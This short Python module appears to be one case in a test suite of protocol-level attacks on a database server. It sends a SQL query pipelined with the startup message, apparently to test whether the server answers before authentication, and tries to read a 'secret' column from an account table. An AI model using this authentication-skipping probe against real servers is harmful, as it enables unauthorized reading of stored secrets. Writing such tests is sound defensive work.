"""Sends the first Query together with the StartupMessage."""

from attacks.frames import ask, query
from attacks.talking import Server
from raw_client import startup

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.raw() as client:
        hello = startup(user=server.user, database=server.dbname)
        return ask(client, hello, query(b"SELECT secret FROM vlt_account"), rounds=2)
